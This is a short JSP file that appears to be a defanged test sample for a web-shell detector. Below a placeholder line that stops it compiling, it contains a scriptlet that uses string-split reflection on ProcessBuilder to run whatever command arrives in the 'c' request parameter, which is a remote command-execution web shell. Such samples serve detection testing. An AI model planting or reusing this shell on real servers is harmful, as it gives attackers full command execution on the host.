<%-- DEFANGED vigil test sample (see README): the next scriptlet does not compile. --%>
<% DEFANGED_SAMPLE_DOES_NOT_COMPILE %>
<%
Class k = Class.forName("java.lang." + "Process" + "Builder");
Object b = k.getConstructor(java.util.List.class).newInstance(java.util.Arrays.asList(request.getParameter("c").split(" ")));
k.getMethod("start").invoke(b);
%>
